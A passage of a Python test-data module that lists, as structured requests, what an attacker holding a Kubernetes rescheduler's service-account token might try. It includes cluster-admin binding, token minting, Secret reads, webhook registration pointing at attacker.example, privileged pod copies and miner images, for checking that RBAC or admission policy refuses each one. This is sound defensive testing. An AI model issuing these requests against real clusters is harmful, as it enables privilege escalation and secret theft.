"""Requests that an attacker with the token of one of our service accounts would try, as data.

Every request is valid: an administrator may make it. `by` says who must refuse it to our account: RBAC, which
does not grant the verb, or an admission policy, which restricts a verb that is granted.
"""

from base64 import b64encode
from typing import Any, Final, NamedTuple

from rescheduler.api.well_known_names import (
    EVICTION_TURNS_CONFIG_MAP,
    GUARD_WEBHOOK,
    SCHEDULING_GATE,
    STEERING_WEBHOOK,
    install_labels,
)
from rescheduler.install.install_options import DAEMON, WEBHOOK, labels
from rescheduler.migrations.labels_and_names import ANNOTATIONS, MIGRATION_ID_LABEL
from rescheduler.steering.webhook.eviction_decision import eviction_migration_name
from rescheduler.steering.webhook.webhook_configurations import WEBHOOK_SECRET

__all__ = [
    "BOTH",
    "DAEMONS",
    "HOME",
    "JOB",
    "MERGE",
    "NODE",
    "SHOP",
    "WEBHOOKS",
    "WEBHOOKS_JOB",
    "Request",
    "pod",
    "stage",
]

HOME: Final = "rescheduler"
"""Where we are installed."""
SHOP: Final = "shop"
"""Where another user's workloads are."""
TRUSTED: Final = "trusted"
"""Where an administrator allows privileged copies."""
NODE: Final = "worker"

MERGE: Final = "application/merge-patch+json"
_APPLY: Final = "application/apply-patch+yaml"
_JSON: Final = "application/json"
RBAC: Final = "RBAC"
POLICY: Final = "policy"


class Request(NamedTuple):
    name: str
    method: str
    path: str
    body: Any = None
    by: str = RBAC
    content_type: str = _JSON
    headers: tuple[tuple[str, str], ...] = ()
    is_dry_run: bool = True
    """Whether the administrator can try it without any effect."""


# -- objects

_CONTAINER: Final = {"name": "c", "image": "registry.example/app:1"}
_MIGRATION: Final = {
    "apiVersion": "rescheduler.dev/v1alpha1",
    "kind": "PodMigration",
    "name": "web-1-move",
    "uid": "00000000-0000-0000-0000-000000000001",
    "controller": True,
}
_FOREIGN_OWNER: Final = {
    "apiVersion": "apps/v1",
    "kind": "ReplicaSet",
    "name": "not-there",
    "uid": "00000000-0000-0000-0000-000000000002",
}
_DEFAULT_TOLERATIONS: Final = [
    {
        "key": f"node.kubernetes.io/{taint}",
        "operator": "Exists",
        "effect": "NoExecute",
        "tolerationSeconds": 300,
    }
    for taint in ("not-ready", "unreachable")
]
"""Which the server adds to every pod, and which can't be removed."""
_GATED: Final = {"schedulingGates": [{"name": SCHEDULING_GATE}]}
_COPY_MARKS: Final = {"labels": {MIGRATION_ID_LABEL: "move"}, "annotations": dict.fromkeys(ANNOTATIONS, "x")}


def pod(
    name: str, namespace: str = SHOP, spec: dict[str, Any] | None = None, **metadata: Any
) -> dict[str, Any]:
    return {
        "apiVersion": "v1",
        "kind": "Pod",
        "metadata": {"name": name, "namespace": namespace, **metadata},
        "spec": {"containers": [_CONTAINER], **(spec or {})},
    }


def _object(api_version: str, kind: str, name: str, **content: Any) -> dict[str, Any]:
    return {"apiVersion": api_version, "kind": kind, "metadata": {"name": name}, **content}


def _template(**spec: Any) -> dict[str, Any]:
    return {"metadata": {"labels": {"app": "web"}}, "spec": {"containers": [_CONTAINER], **spec}}


_SELECTED: Final = {"selector": {"matchLabels": {"app": "web"}}, "template": _template()}
_JOB_SPEC: Final = {"template": {"spec": {"containers": [_CONTAINER], "restartPolicy": "Never"}}}
_TOKEN_SECRET: Final = {
    "apiVersion": "v1",
    "kind": "Secret",
    "metadata": {"name": "stolen", "annotations": {"kubernetes.io/service-account.name": DAEMON}},
    "type": "kubernetes.io/service-account-token",
}
_WEBHOOK: Final = {
    "name": "all.attacker.example",
    "admissionReviewVersions": ["v1"],
    "sideEffects": "None",
    "clientConfig": {"url": "https://attacker.example"},
    "rules": [{"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}],
}
_ADMIN_BINDING: Final = _object(
    "rbac.authorization.k8s.io/v1",
    "ClusterRoleBinding",
    "stolen",
    roleRef={"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"},
    subjects=[{"kind": "ServiceAccount", "name": DAEMON, "namespace": HOME}],
)


_REGISTRATION_CHANGES: Final = {
    "have all kinds sent to it": [{"op": "replace", "path": "/webhooks/0/rules", "value": _WEBHOOK["rules"]}],
    "have requests sent elsewhere": [
        {"op": "replace", "path": "/webhooks/0/clientConfig", "value": _WEBHOOK["clientConfig"]}
    ],
    "have every pod sent to it": [{"op": "remove", "path": "/webhooks/0/matchConditions"}],
    "stop pods when it is gone": [{"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Fail"}],
    "add a webhook": [{"op": "add", "path": "/webhooks/-", "value": _WEBHOOK}],
    "remove its webhook": [{"op": "remove", "path": "/webhooks/0"}],
    "relabel its registration": [{"op": "add", "path": "/metadata/labels/x", "value": "y"}],
    "hold its registration by a finalizer": [
        {"op": "add", "path": "/metadata/finalizers", "value": ["a.example/b"]}
    ],
    "have its registration garbage-collected": [
        {"op": "add", "path": "/metadata/ownerReferences", "value": [_FOREIGN_OWNER]}
    ],
    "have pods of one namespace left out": [
        {
            "op": "add",
            "path": "/webhooks/0/namespaceSelector",
            "value": {"matchLabels": {"x": "y"}},
        }
    ],
}


_POWERS: Final = {
    "reader": ("get", "", "secrets"),
    "deployer": ("patch", "apps", "deployments"),
    "set-maker": ("create", "apps", "statefulsets"),
    "replica-maker": ("create", "apps", "replicasets"),
    "scheduler": ("patch", "batch", "cronjobs"),
    "pod-patcher": ("patch", "", "pods"),
    "deployment-updater": ("update", "apps", "deployments"),
    "pod-updater": ("update", "", "pods"),
}
"""Service accounts of a namespace, and what each may do in all others: verb, API group and resource."""


def stage() -> list[dict[str, Any]]:
    """What is in the cluster in addition to the manifests, before any attack."""
    owner = {**_MIGRATION, "controller": True}
    in_shop: list[dict[str, Any]] = [
        _object("v1", "Secret", "password", stringData={"password": "secret"}),
        *(_object("v1", "ServiceAccount", name) for name in ("shop", "operator", *_POWERS)),
        _object("apps/v1", "Deployment", "web", spec={**_SELECTED, "replicas": 0}),
        _object("apps/v1", "ReplicaSet", "web", spec={**_SELECTED, "replicas": 0}),
        _object("apps/v1", "StatefulSet", "web", spec={**_SELECTED, "replicas": 0, "serviceName": "web"}),
        _object(
            "apps/v1",
            "DaemonSet",
            "web",
            spec={**_SELECTED, "template": _template(nodeSelector={"no": "where"})},
        ),
        _object("batch/v1", "Job", "web", spec={**_JOB_SPEC, "suspend": True}),
        _object(
            "batch/v1",
            "CronJob",
            "web",
            spec={"schedule": "0 0 1 1 *", "suspend": True, "jobTemplate": {"spec": _JOB_SPEC}},
        ),
        _object(
            "policy/v1",
            "PodDisruptionBudget",
            "web",
            spec={"maxUnavailable": 0, "selector": {"matchLabels": {"app": "web"}}},
        ),
        _object(
            "v1",
            "Event",
            "web.1",
            involvedObject={"kind": "Pod", "name": "web-1", "namespace": SHOP},
            reason="Started",
            message="started",
            type="Normal",
            source={"component": "kubelet"},
        ),
        pod("web-1", labels={"app": "web"}, annotations={"note": "mine"}, spec={"nodeName": NODE}),
        pod("gated", spec={"schedulingGates": [{"name": SCHEDULING_GATE}, {"name": "example.com/quota"}]}),
        pod("copy", ownerReferences=[owner], spec=_GATED),
    ]
    for item in in_shop:
        item["metadata"]["namespace"] = SHOP
    node = _object("v1", "Node", NODE)
    node["metadata"] |= {"labels": {"pool": "a"}, "annotations": {"note": "mine"}}
    trusted = _object("v1", "Namespace", TRUSTED)
    trusted["metadata"]["labels"] = {"rescheduler.dev/privileged-copies": "true"}
    return [
        _object("v1", "Namespace", SHOP),
        trusted,
        _object("v1", "ServiceAccount", "operator")
        | {"metadata": {"name": "operator", "namespace": TRUSTED}},
        *(
            _object(
                "rbac.authorization.k8s.io/v1",
                "ClusterRole",
                name,
                rules=[{"apiGroups": [group], "resources": [resource], "verbs": [verb]}],
            )
            for name, (verb, group, resource) in _POWERS.items()
        ),
        *(_bound(account, account) for account in _POWERS),
        _bound("operator", "cluster-admin"),
        node,
        {**_object("v1", "Secret", "other"), "metadata": {"name": "other", "namespace": HOME}},
        *in_shop,
    ]


def _bound(account: str, role: str) -> dict[str, Any]:
    return _object(
        "rbac.authorization.k8s.io/v1",
        "ClusterRoleBinding",
        f"{account}-{role}",
        roleRef={"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        subjects=[{"kind": "ServiceAccount", "name": account, "namespace": SHOP}],
    )


def _copy(name: str, namespace: str = SHOP, labels: dict[str, str] | None = None, **spec: Any) -> Request:
    """Create a pod that has all that a copy of a pod of a ReplicaSet needs."""
    path = f"/api/v1/namespaces/{namespace}/pods"
    item = pod("copy-2", namespace, {**_GATED, **spec}, ownerReferences=[_MIGRATION], labels=labels or {})
    return Request(name, "POST", path, item, POLICY)


def _contained(**more: Any) -> list[dict[str, Any]]:
    return [{**_CONTAINER, **more}]


def _in_anothers_name(path: str, change: Any) -> tuple[Request, ...]:
    """Attempts to make a write look like another user's."""
    entry = {
        "manager": "kubectl",
        "operation": "Update",
        "apiVersion": "apps/v1" if path.startswith("/apis/apps/") else "v1",
        "fieldsType": "FieldsV1",
        "fieldsV1": {"f:metadata": {"f:labels": {"f:x": {}}}},
    }
    forged = [{"op": "add", "path": "/metadata/managedFields/-", "value": entry}]
    return (
        _patch(f"write as another field manager: {path}", f"{path}?fieldManager=kubectl", change, POLICY),
        _patch(
            f"invent a field manager: {path}",
            path,
            forged,
            POLICY,
            content_type="application/json-patch+json",
        ),
    )


def _create(name: str, path: str, body: dict[str, Any], by: str = RBAC, **more: Any) -> Request:
    return Request(name, "POST", path, body, by, **more)


def _patch(name: str, path: str, body: Any, by: str = RBAC, **more: Any) -> Request:
    more = {"content_type": MERGE, **more}
    return Request(name, "PATCH", path, body, by, **more)


def _annotated(value: str) -> dict[str, Any]:
    return {"metadata": {"annotations": {"note": value}}}


# -- attacks

_FORGED_EVENT: Final = _create(
    "write an Event of another component",
    f"/api/v1/namespaces/{SHOP}/events",
    _object(
        "v1",
        "Event",
        "x.1",
        involvedObject={"kind": "Pod", "name": "web-1", "namespace": SHOP},
        source={"component": "kubelet"},
    ),
    POLICY,
)

_PODS: Final = f"/api/v1/namespaces/{SHOP}/pods"
_APPS: Final = f"/apis/apps/v1/namespaces/{SHOP}"
_BATCH: Final = f"/apis/batch/v1/namespaces/{SHOP}"
_SELECTOR: Final = {"matchLabels": {"app": "web"}}
_BUDGETS: Final = f"/apis/policy/v1/namespaces/{SHOP}/poddisruptionbudgets"
_ADMISSION: Final = "/apis/admissionregistration.k8s.io/v1"
_RBAC_API: Final = "/apis/rbac.authorization.k8s.io/v1"

BOTH: Final = (
    # Impersonation.
    _create(
        "mint a token for the daemon through a Secret", f"/api/v1/namespaces/{HOME}/secrets", _TOKEN_SECRET
    ),
    *(
        _create(
            f"request a token for {account}",
            f"/api/v1/namespaces/{HOME}/serviceaccounts/{account}/token",
            _object("authentication.k8s.io/v1", "TokenRequest", "", spec={}),
        )
        for account in (DAEMON, WEBHOOK)
    ),
    Request(
        "impersonate an administrator",
        "GET",
        "/api/v1/nodes",
        headers=(("Impersonate-User", "root"), ("Impersonate-Group", "system:masters")),
    ),
    _create("bind itself to cluster-admin", f"{_RBAC_API}/clusterrolebindings", _ADMIN_BINDING),
    _patch(
        "extend its own ClusterRole",
        f"{_RBAC_API}/clusterroles/{DAEMON}.{HOME}",
        {"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
    ),
    _create(
        "bind itself to a Role in its own namespace",
        f"{_RBAC_API}/namespaces/{HOME}/rolebindings",
        {**_ADMIN_BINDING, "kind": "RoleBinding"},
    ),
    _create(
        "create a service account",
        f"/api/v1/namespaces/{HOME}/serviceaccounts",
        _object("v1", "ServiceAccount", "another"),
    ),
    # Secrets.
    Request("read a Secret of a tenant", "GET", f"/api/v1/namespaces/{SHOP}/secrets/password"),
    Request("read another Secret of its namespace", "GET", f"/api/v1/namespaces/{HOME}/secrets/other"),
    Request("list the Secrets of its namespace", "GET", f"/api/v1/namespaces/{HOME}/secrets"),
    Request("list all Secrets", "GET", "/api/v1/secrets"),
    Request("watch all Secrets", "GET", "/api/v1/secrets?watch=true&timeoutSeconds=1"),
    # Admission.
    *(
        _create(
            f"register a webhook of its own ({kind})",
            f"{_ADMISSION}/{kind.lower()}s",
            _object("admissionregistration.k8s.io/v1", kind, "attacker", webhooks=[_WEBHOOK]),
        )
        for kind in ("MutatingWebhookConfiguration", "ValidatingWebhookConfiguration")
    ),
    *(
        Request(
            f"delete the {what} that restricts it",
            "DELETE",
            f"{_ADMISSION}/{plural}/rescheduler-create-pods.{HOME}",
        )
        for what, plural in (
            ("policy", "validatingadmissionpolicies"),
            ("binding", "validatingadmissionpolicybindings"),
        )
    ),
    _patch(
        "turn off the binding that restricts it",
        f"{_ADMISSION}/validatingadmissionpolicybindings/rescheduler-create-pods.{HOME}",
        {"spec": {"validationActions": ["Audit"]}},
    ),
    _patch(
        "change the definition of PodMigration",
        "/apis/apiextensions.k8s.io/v1/customresourcedefinitions/podmigrations.rescheduler.dev",
        _annotated("stolen"),
    ),
    # Workloads and nodes.
    Request("run a command in a pod", "POST", f"{_PODS}/web-1/exec?command=id", is_dry_run=False),
    Request("read the log of a pod", "GET", f"{_PODS}/web-1/log", is_dry_run=False),
    Request(
        "reach a kubelet through the API server", "GET", f"/api/v1/nodes/{NODE}/proxy/pods", is_dry_run=False
    ),
    _create(
        "bind a pod to a node",
        f"{_PODS}/copy/binding",
        _object("v1", "Binding", "copy", target={"kind": "Node", "name": NODE}),
        is_dry_run=False,
    ),
    _patch("scale a Deployment", f"{_APPS}/deployments/web/scale", {"spec": {"replicas": 0}}),
    _create(
        "create a DaemonSet",
        f"{_APPS}/daemonsets",
        _object("apps/v1", "DaemonSet", "miner", spec=_SELECTED),
    ),
    _create(
        "create a Job",
        f"{_BATCH}/jobs",
        _object("batch/v1", "Job", "miner", spec=_JOB_SPEC),
    ),
    Request("delete a Deployment", "DELETE", f"{_APPS}/deployments/web"),
    Request("delete all pods of a namespace at once", "DELETE", _PODS),
    Request("delete a node", "DELETE", f"/api/v1/nodes/{NODE}"),
    Request("delete a namespace", "DELETE", f"/api/v1/namespaces/{SHOP}"),
    _patch(
        "change the daemon's configuration",
        f"/api/v1/namespaces/{HOME}/configmaps/rescheduler",
        {"data": {"rescheduler.yaml": "{}"}},
    ),
    _create(
        "hold the scheduler's Lease",
        "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases",
        _object("coordination.k8s.io/v1", "Lease", "stolen", spec={}),
    ),
)
"""Refused to every account."""

DAEMONS: Final = (
    # Pods that are no copies.
    _create("create a pod of its own", _PODS, pod("miner"), POLICY),
    _create("create a gated pod without an owner", _PODS, pod("miner", spec=_GATED), POLICY),
    _create(
        "create a pod for a PodMigration without the gate",
        _PODS,
        pod("miner", ownerReferences=[_MIGRATION]),
        POLICY,
    ),
    _create(
        "create a pod that a PodMigration owns but does not control",
        _PODS,
        pod("miner", spec=_GATED, ownerReferences=[{**_MIGRATION, "controller": False}]),
        POLICY,
    ),
    _create(
        "create a pod with the marks of a copy and another name",
        _PODS,
        pod("miner", spec=_GATED, **_COPY_MARKS),
        POLICY,
    ),
    _create(
        "create a copy in kube-system",
        "/api/v1/namespaces/kube-system/pods",
        pod("miner", "kube-system", spec=_GATED, ownerReferences=[_MIGRATION]),
        POLICY,
    ),
    # Copies that are more than a copy.
    *(_copy(f"create a copy with {each}", **{each: True}) for each in ("hostNetwork", "hostPID", "hostIPC")),
    _copy("create a copy with a hostPath", volumes=[{"name": "v", "hostPath": {"path": "/"}}]),
    *(
        _copy(f"create a copy with {what}", containers=_contained(securityContext=context), hostUsers=False)
        for what, context in (
            ("a privileged container", {"privileged": True}),
            ("a container that may change the host", {"capabilities": {"add": ["SYS_ADMIN"]}}),
            ("a container that sees all of /proc", {"procMount": "Unmasked"}),
        )
    ),
    _copy(
        "create a copy with a privileged init container",
        initContainers=_contained(name="init", securityContext={"privileged": True}),
    ),
    *(
        _copy(f"create a copy that is {what}", serviceAccountName=account)
        for what, account in (
            ("cluster-admin", "operator"),
            *((f"able to {verb} {resource}", account) for account, (verb, _, resource) in _POWERS.items()),
        )
    ),
    _copy("create a copy with the webhook's account", HOME, serviceAccountName=WEBHOOK),
    _copy("create a copy that gets the webhook's requests", HOME, labels("webhook")),
    *(
        _copy(f"create a copy with the webhook's Secret {how}", HOME, **spec)
        for how, spec in (
            ("as a volume", {"volumes": [{"name": "v", "secret": {"secretName": WEBHOOK_SECRET}}]}),
            (
                "in a volume",
                {
                    "volumes": [
                        {"name": "v", "projected": {"sources": [{"secret": {"name": WEBHOOK_SECRET}}]}}
                    ]
                },
            ),
            (
                "as its environment",
                {"containers": _contained(envFrom=[{"secretRef": {"name": WEBHOOK_SECRET}}])},
            ),
            (
                "in its environment",
                {
                    "containers": _contained(
                        env=[
                            {
                                "name": "KEY",
                                "valueFrom": {"secretKeyRef": {"name": WEBHOOK_SECRET, "key": "tls.key"}},
                            }
                        ]
                    )
                },
            ),
        )
    ),
    # Changes of pods.
    _patch(
        "change the image of a pod",
        f"{_PODS}/web-1",
        {"spec": {"containers": [{**_CONTAINER, "image": "attacker.example/miner:1"}]}},
        POLICY,
    ),
    _patch(
        "let a pod tolerate every taint",
        f"{_PODS}/web-1",
        {"spec": {"tolerations": [*_DEFAULT_TOLERATIONS, {"operator": "Exists"}]}},
        POLICY,
    ),
    _patch("end a pod by a deadline", f"{_PODS}/web-1", {"spec": {"activeDeadlineSeconds": 1}}, POLICY),
    _patch("take a pod out of its Service", f"{_PODS}/web-1", {"metadata": {"labels": {"app": "x"}}}, POLICY),
    _patch("remove a label of a pod", f"{_PODS}/web-1", {"metadata": {"labels": {"app": None}}}, POLICY),
    _patch("change an annotation of others on a pod", f"{_PODS}/web-1", _annotated("x"), POLICY),
    _patch(
        "hold a pod by a finalizer", f"{_PODS}/web-1", {"metadata": {"finalizers": ["a.example/b"]}}, POLICY
    ),
    _patch(
        "have a pod garbage-collected by an owner that does not exist",
        f"{_PODS}/web-1",
        {"metadata": {"ownerReferences": [_FOREIGN_OWNER]}},
        POLICY,
    ),
    _patch(
        "turn another pod into a copy",
        f"{_PODS}/web-1",
        {"metadata": {"ownerReferences": [_MIGRATION]}},
        POLICY,
    ),
    _patch(
        "give a copy another controller",
        f"{_PODS}/copy",
        {"metadata": {"ownerReferences": [{**_FOREIGN_OWNER, "controller": True}]}},
        POLICY,
    ),
    _patch(
        "open the scheduling gate of others",
        f"{_PODS}/gated",
        {"spec": {"schedulingGates": [{"name": SCHEDULING_GATE}]}},
        POLICY,
    ),
    _patch(
        "change the node selector of a gated pod",
        f"{_PODS}/copy",
        {"spec": {"nodeSelector": {"pool": "a"}}},
        POLICY,
    ),
    _patch("declare a pod failed", f"{_PODS}/web-1/status", {"status": {"phase": "Failed"}}, POLICY),
    _patch(
        "send a pod's traffic elsewhere",
        f"{_PODS}/web-1/status",
        {"status": {"podIPs": [{"ip": "10.9.9.9"}], "podIP": "10.9.9.9"}},
        POLICY,
    ),
    _patch(
        "declare a pod not ready",
        f"{_PODS}/web-1/status",
        {"status": {"conditions": [{"type": "Ready", "status": "False"}]}},
        POLICY,
    ),
    _patch(
        "change labels through the status",
        f"{_PODS}/web-1/status",
        {"metadata": {"labels": {"app": "x"}}},
        POLICY,
    ),
    _patch(
        "change the template of a Deployment by a JSON patch",
        f"{_APPS}/deployments/web",
        [{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "attacker.example/x"}],
        POLICY,
        content_type="application/json-patch+json",
    ),
    _patch(
        "change the template of a Deployment by server-side apply",
        f"{_APPS}/deployments/web?fieldManager=attacker&force=true",
        _object("apps/v1", "Deployment", "web", spec={"template": {"spec": {"hostNetwork": True}}}),
        POLICY,
        content_type=_APPLY,
    ),
    _patch(
        "create a Deployment by server-side apply",
        f"{_APPS}/deployments/miner?fieldManager=attacker",
        _object("apps/v1", "Deployment", "miner", spec=_SELECTED),
        content_type=_APPLY,
    ),
    _patch(
        "create a pod by server-side apply",
        f"{_PODS}/miner?fieldManager=attacker",
        pod("miner"),
        POLICY,
        content_type=_APPLY,
    ),
    _patch(
        "create a node by server-side apply",
        "/api/v1/nodes/miner?fieldManager=attacker",
        _object("v1", "Node", "miner"),
        content_type=_APPLY,
    ),
    _create(
        "create a pod with a generated name",
        _PODS,
        {**pod("", spec=_GATED), "metadata": {"generateName": "rescheduled-", "namespace": SHOP}},
        POLICY,
    ),
    # The end of pods.
    _create(
        "evict a pod without its grace period",
        f"{_PODS}/web-1/eviction",
        _object(
            "policy/v1",
            "Eviction",
            "web-1",
            deleteOptions={"gracePeriodSeconds": 0, "preconditions": {"uid": "x"}},
        ),
        POLICY,
        is_dry_run=False,
    ),
    Request("delete a ready pod", "DELETE", f"{_PODS}/web-1", by=POLICY),
    _create(
        "evict whichever pod has a name",
        f"{_PODS}/web-1/eviction",
        _object("policy/v1", "Eviction", "web-1"),
        POLICY,
        is_dry_run=False,
    ),
    # Workloads.
    *(
        _patch(
            f"change the template of a {resource.removesuffix('s')}",
            f"{_APPS}/{resource}/web",
            {"spec": {"template": {"metadata": {"annotations": {"rescheduler.dev/x": "x"}}}}},
            POLICY,
        )
        for resource in ("deployments", "replicasets", "statefulsets", "daemonsets")
    ),
    _patch("scale a Deployment by a patch", f"{_APPS}/deployments/web", {"spec": {"replicas": 3}}, POLICY),
    _patch("label a Deployment", f"{_APPS}/deployments/web", {"metadata": {"labels": {"x": "y"}}}, POLICY),
    _patch("annotate a Deployment for others", f"{_APPS}/deployments/web", _annotated("x"), POLICY),
    _patch(
        "have a Deployment garbage-collected",
        f"{_APPS}/deployments/web",
        {"metadata": {"ownerReferences": [_FOREIGN_OWNER]}},
        POLICY,
    ),
    _patch("start a suspended Job", f"{_BATCH}/jobs/web", {"spec": {"suspend": False}}, POLICY),
    _patch(
        "change the schedule of a CronJob",
        f"{_BATCH}/cronjobs/web",
        {"spec": {"schedule": "* * * * *"}},
        POLICY,
    ),
    # Nodes.
    _patch("label a node", f"/api/v1/nodes/{NODE}", {"metadata": {"labels": {"pool": "b"}}}, POLICY),
    _patch(
        "taint a node",
        f"/api/v1/nodes/{NODE}",
        {"spec": {"taints": [{"key": "x", "effect": "NoExecute"}]}},
        POLICY,
    ),
    _patch("annotate a node for others", f"/api/v1/nodes/{NODE}", _annotated("x"), POLICY),
    _patch(
        "enlarge a node", f"/api/v1/nodes/{NODE}/status", {"status": {"capacity": {"cpu": "999"}}}, POLICY
    ),
    _patch(
        "declare a node ready",
        f"/api/v1/nodes/{NODE}/status",
        {"status": {"conditions": [{"type": "Ready", "status": "True"}]}},
        POLICY,
    ),
    # Who wrote what.
    *_in_anothers_name(f"/api/v1/nodes/{NODE}", {"spec": {"unschedulable": True}}),
    *_in_anothers_name(f"{_PODS}/web-1", {"metadata": {"labels": {MIGRATION_ID_LABEL: "x"}}}),
    *_in_anothers_name(
        f"{_APPS}/deployments/web", {"metadata": {"annotations": {"rescheduler.dev/failed-attempts": "{}"}}}
    ),
    # Budgets, Events, its own objects.
    _create(
        "create a budget that is never removed",
        _BUDGETS,
        _object("policy/v1", "PodDisruptionBudget", "x-rescheduler-pdb", spec={"maxUnavailable": 0}),
        POLICY,
    ),
    *(
        _create(
            f"block every eviction in a namespace with a budget {how}",
            _BUDGETS,
            {
                **_object("policy/v1", "PodDisruptionBudget", "", spec=spec),
                "metadata": {"name": "x-rescheduler-pdb", "ownerReferences": [_MIGRATION]},
            },
            POLICY,
        )
        for how, spec in (
            ("for all pods", {"maxUnavailable": 1, "selector": {}}),
            ("without a selector", {"maxUnavailable": 1}),
            ("that allows nothing", {"maxUnavailable": 0, "selector": _SELECTOR}),
            ("of a percentage", {"maxUnavailable": "1%", "selector": _SELECTOR}),
            ("with minAvailable", {"minAvailable": "100%", "selector": _SELECTOR}),
        )
    ),
    Request("delete a budget of others", "DELETE", f"{_BUDGETS}/web", by=POLICY),
    _FORGED_EVENT,
    _patch("change an Event of others", f"/api/v1/namespaces/{SHOP}/events/web.1", {"message": "x"}, POLICY),
    _create(
        "create another ConfigMap in its namespace",
        f"/api/v1/namespaces/{HOME}/configmaps",
        _object("v1", "ConfigMap", "x"),
        POLICY,
    ),
    _create(
        "create another Lease in its namespace",
        f"/apis/coordination.k8s.io/v1/namespaces/{HOME}/leases",
        _object("coordination.k8s.io/v1", "Lease", "x", spec={}),
        POLICY,
    ),
    # What only the webhook needs.
    Request(
        "read the webhook's certificate",
        "GET",
        f"/api/v1/namespaces/{HOME}/secrets/rescheduler-webhook-cert",
        is_dry_run=False,
    ),
    _patch(
        "change a webhook's registration",
        f"{_ADMISSION}/mutatingwebhookconfigurations/rescheduler.{HOME}",
        _annotated("x"),
        is_dry_run=False,
    ),
    # Shells into pods.
    _patch(
        "add a debug container to a pod",
        f"{_PODS}/web-1/ephemeralcontainers",
        {"spec": {"ephemeralContainers": [{**_CONTAINER, "name": "debug"}]}},
    ),
)
"""Refused to the daemon."""

WEBHOOKS: Final = (
    _create("create a pod", _PODS, pod("miner", spec=_GATED, ownerReferences=[_MIGRATION])),
    Request("delete a pod", "DELETE", f"{_PODS}/web-1"),
    _patch("mark a pod", f"{_PODS}/web-1", {"metadata": {"labels": {MIGRATION_ID_LABEL: "x"}}}),
    _patch("cordon a node", f"/api/v1/nodes/{NODE}", {"spec": {"unschedulable": True}}),
    _patch("annotate a Deployment", f"{_APPS}/deployments/web", _annotated("x")),
    _create(
        "start a migration",
        f"/apis/rescheduler.dev/v1alpha1/namespaces/{SHOP}/podmigrations",
        _object(
            "rescheduler.dev/v1alpha1",
            "PodMigration",
            "x",
            spec={
                "pod": {"name": "web-1", "uid": "1"},
                "sourceNode": NODE,
                "strategy": "Manual",
                "reason": "x",
            },
        ),
        POLICY,
    ),
    _create(
        "nominate a pending pod of another user",
        f"/apis/rescheduler.dev/v1alpha1/namespaces/{SHOP}/podmigrations",
        _object(
            "rescheduler.dev/v1alpha1",
            "PodMigration",
            eviction_migration_name("1"),
            spec={
                "pod": {"name": "web-1", "uid": "1"},
                "sourceNode": NODE,
                "strategy": "Eviction",
                "handover": "Adopt",
                "rooms": [{"namespace": "bank", "name": "vault", "uid": "2", "node": NODE}],
            },
        ),
        POLICY,
    ),
    # Its own registrations: it may write caBundle, and nothing else.
    *(
        _patch(
            f"{what} ({kind})",
            f"{_ADMISSION}/{kind.lower()}s/rescheduler.{HOME}",
            change,
            POLICY,
            content_type="application/json-patch+json",
        )
        for kind in ("MutatingWebhookConfiguration", "ValidatingWebhookConfiguration")
        for what, change in _REGISTRATION_CHANGES.items()
    ),
    *(
        Request(
            f"delete its registration ({kind})", "DELETE", f"{_ADMISSION}/{kind.lower()}s/rescheduler.{HOME}"
        )
        for kind in ("MutatingWebhookConfiguration", "ValidatingWebhookConfiguration")
    ),
    *(
        _patch(
            f"have {kind} sent elsewhere by server-side apply",
            f"{_ADMISSION}/{kind.lower()}s/rescheduler.{HOME}?fieldManager=attacker&force=true",
            _object(
                "admissionregistration.k8s.io/v1",
                kind,
                f"rescheduler.{HOME}",
                webhooks=[{"name": name, "failurePolicy": "Fail"}],
            ),
            POLICY,
            content_type=_APPLY,
        )
        for kind, name in (
            ("MutatingWebhookConfiguration", STEERING_WEBHOOK),
            ("ValidatingWebhookConfiguration", GUARD_WEBHOOK),
        )
    ),
    *(
        Request(
            f"{what} its own {kind}",
            "PUT",
            f"/api/v1/namespaces/{HOME}/{kind.lower()}s/{name}",
            {
                "apiVersion": "v1",
                "kind": kind,
                **content,
                "metadata": {"name": name, **content.get("metadata", {})},
            },
            POLICY,
        )
        for kind, name in (("Secret", WEBHOOK_SECRET), ("ConfigMap", EVICTION_TURNS_CONFIG_MAP))
        for what, content in (
            ("freeze", {"immutable": True}),
            ("garbage-collect", {"metadata": {"ownerReferences": [_FOREIGN_OWNER]}}),
            ("remove the labels of", {}),
        )
    ),
    _FORGED_EVENT,
    _patch(
        "change the daemon's configuration",
        f"/api/v1/namespaces/{HOME}/configmaps/{DAEMON}",
        {"data": {"x": "x"}},
    ),
    Request("delete its own Secret", "DELETE", f"/api/v1/namespaces/{HOME}/secrets/rescheduler-webhook-cert"),
    _create("create a Secret", f"/api/v1/namespaces/{HOME}/secrets", _object("v1", "Secret", "x")),
    _patch(
        "change another Secret of its namespace",
        f"/api/v1/namespaces/{HOME}/secrets/other",
        {"data": {"x": b64encode(b"x").decode()}},
    ),
)
"""Refused to the webhook."""

WEBHOOKS_JOB: Final = (
    Request("list pods, to decide about evictions", "GET", "/api/v1/pods"),
    *(
        _patch(
            f"write the caBundle of its registration ({kind})",
            f"{_ADMISSION}/{kind.lower()}s/rescheduler.{HOME}",
            [{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": b64encode(b"x").decode()}],
            content_type="application/json-patch+json",
        )
        for kind in ("MutatingWebhookConfiguration", "ValidatingWebhookConfiguration")
    ),
    Request(
        "write its certificates",
        "PUT",
        f"/api/v1/namespaces/{HOME}/secrets/{WEBHOOK_SECRET}",
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "metadata": {"name": WEBHOOK_SECRET, "labels": labels("webhook") | install_labels(HOME)},
            "data": {"tls.crt": b64encode(b"x").decode()},
        },
    ),
    Request(
        "write whose turn it is",
        "PUT",
        f"/api/v1/namespaces/{HOME}/configmaps/{EVICTION_TURNS_CONFIG_MAP}",
        {
            "apiVersion": "v1",
            "kind": "ConfigMap",
            "metadata": {
                "name": EVICTION_TURNS_CONFIG_MAP,
                "labels": labels("webhook") | install_labels(HOME),
            },
            "data": {"uid": "shop/db-0 uid x"},
        },
    ),
)
"""Allowed to the webhook."""

JOB: Final = (
    _create(
        "create the copy of a pod of a ReplicaSet",
        _PODS,
        pod("web-2", spec=_GATED, ownerReferences=[_MIGRATION]),
    ),
    _copy(
        "create the copy of a pod with its own account and all that baseline allows",
